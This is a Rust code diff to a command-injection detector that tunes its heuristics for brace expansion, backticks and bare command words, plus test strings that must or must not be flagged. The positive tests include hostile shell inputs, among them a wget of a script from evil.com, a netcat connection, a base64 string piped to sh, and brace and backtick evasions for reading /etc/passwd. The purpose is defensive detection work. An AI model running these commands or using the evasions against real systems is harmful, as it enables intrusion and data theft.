@@ -128,8 +128,8 @@ fn syntax_at(v: &[u8], i: usize, level: u8) -> Option<Option<Hit>> {
             return Some(hit(1, i, end, level));
         }
         (b'{', _) => {
-            if let Some(close) = brace_expansion(&v[i..]) {
-                return Some(hit(1, i, i + close + 1, level));
+            if let Some((close, runs)) = brace_expansion(v, i) {
+                return Some(hit(if runs { 1 } else { 2 }, i, i + close + 1, level));
             }
         }
         (b'/', _)
@@ -169,15 +169,40 @@ fn shellshock(v: &[u8], level: u8) -> Option<Hit> {
     t.starts_with(b"{").then(|| Hit::new(1, 0, v.len().min(24))).filter(|h| h.level <= level)
 }
 
-/// `{cat,/etc/passwd}`, `c{a,ou}t`, `{,ifconfig}`: a comma list in braces, no spaces, with a
-/// letter in it (not a JSON object, not a set of numbers). Returns the offset of `}`.
-fn brace_expansion(v: &[u8]) -> Option<usize> {
-    let close = v.iter().take(256).position(|&b| b == b'}')?;
-    let inner = &v[1..close];
+/// `{cat,/etc/passwd}`, `c{a,ou}t`, `{,ifconfig}`: a comma list in braces at `open`, no spaces,
+/// with a letter in it (not a JSON object, not a set of numbers). Returns the offset of `}` from
+/// `open`, and whether the expansion runs something: an empty or a path element, or a known
+/// command once the word around the braces is put to an element (`c{a,ou}t` is `cat`). A list of
+/// words (`fields={id,name}`, `*.{jpg,png}`, GraphQL-like field selections) only from paranoia 2.
+fn brace_expansion(v: &[u8], open: usize) -> Option<(usize, bool)> {
+    let close = v[open..].iter().take(256).position(|&b| b == b'}')?;
+    let inner = &v[open + 1..open + close];
     let ok = inner.contains(&b',')
         && inner.iter().any(u8::is_ascii_alphabetic)
         && !inner.iter().any(|&b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b':' | b'{' | b'='));
-    ok.then_some(close)
+    if !ok {
+        return None;
+    }
+    let glued = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-');
+    let before = v[..open].iter().rev().take_while(|b| glued(b)).count();
+    let after = v[open + close + 1..].iter().take_while(|b| glued(b)).count();
+    let (prefix, suffix) = (&v[open - before..open], &v[open + close + 1..open + close + 1 + after]);
+    let runs = inner.split(|&b| b == b',').any(|element| {
+        if element.is_empty() || element.contains(&b'/') || element.contains(&b'\\') {
+            return true;
+        }
+        let mut word = [0u8; 40];
+        let len = prefix.len() + element.len() + suffix.len();
+        if len > word.len() {
+            return false;
+        }
+        word[..prefix.len()].copy_from_slice(prefix);
+        word[prefix.len()..prefix.len() + element.len()].copy_from_slice(element);
+        word[prefix.len() + element.len()..len].copy_from_slice(suffix);
+        word[..len].make_ascii_lowercase();
+        classify(&word[..len]).is_some()
+    });
+    Some((close, runs))
 }
 
 /// A program in a system binary directory: `/bin/ab`, `/usr/local/sbin/x`, or `bin/visudo` with
@@ -295,9 +320,15 @@ fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
     let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
     let inner = &v[open + 1..close];
     if inner.is_empty() {
+        // `wh``oami`: empty backticks inside a word. A markdown code fence (```python) is no word.
         let in_word =
-            open > 0 && v[open - 1].is_ascii_alphanumeric() || v.get(close + 1).is_some_and(u8::is_ascii_alphanumeric);
+            open > 0 && v[open - 1].is_ascii_alphanumeric() && v.get(close + 1).is_some_and(u8::is_ascii_alphanumeric);
         return if in_word { hit(1, open.saturating_sub(4), (close + 5).min(v.len()), level) } else { None };
+    }
+    // A markdown code fence: what is inside is code shown, until paranoia 2 reads it as a shell.
+    let fence = v[open..].starts_with(b"```") || (open >= 2 && v[open - 2..].starts_with(b"```"));
+    if fence && level < 2 {
+        return None;
     }
     let (word, end) = read_command(inner, 0);
     let Some(kind) = classify(word.text()) else { return hit(3, open, close + 1, level) };
@@ -308,8 +339,25 @@ fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
             (kind, follow(inner, end)),
             (_, Follow::ShellArgument) | (Kind::Rare, Follow::End | Follow::Operator)
         );
-    let lvl = if glued || whole || runs { 1 } else { 2 };
+    let lvl = if glued || whole || (runs && prose_quote(v, open).is_none()) { 1 } else { 2 };
     hit(lvl, open, close + 1, level)
+}
+
+/// Prose that quotes a command's name in backticks at `open` (`Run \`make\` first`, `use
+/// \`HEAD\` requests`): a blank before, a blank or punctuation after, one plain word inside that
+/// is no administration tool (`whoami`, `id` still count). Returns the closing backtick.
+fn prose_quote(v: &[u8], open: usize) -> Option<usize> {
+    let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
+    let inner = &v[open + 1..close];
+    let (word, end) = read_command(inner, 0);
+    let prose = open > 0
+        && v[open - 1].is_ascii_whitespace()
+        && v.get(close + 1).is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'.' | b',' | b'!' | b'?' | b':'))
+        && !word.evasive
+        && !word.pathed
+        && follow(inner, end) == Follow::End
+        && !is_admin_tool(word.text());
+    prose.then_some(close)
 }
 
 /// A command word as a shell would see it once evasions are undone, lower-cased.
@@ -781,6 +829,17 @@ fn commands(v: &[u8], level: u8) -> Option<Hit> {
                 continue;
             }
         };
+        if v[i] == b'`' && level < 2 {
+            // A markdown code fence: the code is shown, until paranoia 2 reads it as a shell.
+            if v[i..].starts_with(b"```") {
+                i = find_ci(v, b"```", i + 3).map_or(i + 3, |end| end + 3);
+                continue;
+            }
+            if let Some(close) = prose_quote(v, i) {
+                i = close + 1;
+                continue;
+            }
+        }
         if let Some(h) = command_at(v, i, separator_len, false, level) {
             return Some(h);
         }
@@ -831,7 +890,14 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
         (false, Kind::Common, _) => 1,
         (true, _, Follow::ShellArgument) => 1,
         (true, _, Follow::Word) if word.pathed => 1,
-        (true, Kind::Rare, Follow::Word | Follow::Operator) if !is_interpreter(text) && !is_language(text) => 1,
+        (true, Kind::Rare, Follow::Operator) if !is_interpreter(text) && !is_language(text) => 1,
+        // `wget evil.com/x`, `nc 10.0.0.1 4444`: an argument a command takes, not an English word
+        // (`Curl up with a good book`, `wget is a command line tool`: paranoia 3).
+        (true, Kind::Rare, Follow::Word)
+            if !is_interpreter(text) && !is_language(text) && (argument_like(v, end) || short_line(v)) =>
+        {
+            1
+        }
         // A value that is nothing but an administration tool's name.
         (true, Kind::Rare, Follow::End) if is_admin_tool(text) => 1,
         (true, _, Follow::Word | Follow::Operator) => 3,
@@ -839,6 +905,26 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
         (true, _, _) => return None,
     };
     (lvl <= level).then(|| Hit::new(lvl, at, (end + 24).min(v.len())))
+}
+
+/// Whether the rest of the line after a command at `i` holds what commands take: an option, a
+/// host, a path, an address, a number, an assignment (`-m`, `evil.com`, `x/y`, `a=b`, `4444`,
+/// `user@host`), a sentence's closing punctuation aside.
+fn argument_like(v: &[u8], i: usize) -> bool {
+    let line = &v[i..];
+    let line = &line[..line.iter().position(|&b| b == b'\n' || b == b'\r').unwrap_or(line.len())];
+    line.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).any(|word| {
+        let word = word.strip_suffix(b".").or_else(|| word.strip_suffix(b",")).unwrap_or(word);
+        let option = word.len() > 1 && word[0] == b'-' && (word[1].is_ascii_alphanumeric() || word[1] == b'-');
+        option
+            || (!word.is_empty() && word.iter().all(u8::is_ascii_digit))
+            || word.iter().any(|b| matches!(b, b'.' | b'/' | b'=' | b'@' | b':'))
+    })
+}
+
+/// At most three words: a command line, not a sentence.
+fn short_line(v: &[u8]) -> bool {
+    v.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).count() <= 3
 }
 
 /// Commands that run the command after them.
@@ -1250,6 +1336,16 @@ mod tests {
             "job_title=head of",
             "For the love of it, in (my) opinion do it",
             "markdown with `code` inside",
+            "friends{id,name}",
+            "fields=id,name,friends{id,name}",
+            "*.{jpg,png}",
+            "Colors: {red,green}",
+            "Use `HEAD` requests",
+            "Run `make` first",
+            "Curl up with a good book",
+            "wget is a command line tool",
+            "Curl up with a good book, then sleep.",
+            "Fixed, see:\n```python\nprint(1)\n```",
         ] {
             assert!(!cmdi(s, 1), "{s}");
         }
@@ -1290,6 +1386,12 @@ mod tests {
             "python3.10 cmd",
             "printf dW5hbWUgLWE=|base64 -d|sh",
             "\nwget http://evil/x",
+            "wget evil.com/x.sh",
+            "nc 10.0.0.1 4444",
+            "c{a,ou}t /etc/passwd",
+            "{,ifconfig}",
+            "x `whoami` y",
+            "wh``oami",
         ] {
             assert!(cmdi(s, 1), "{s}");
         }
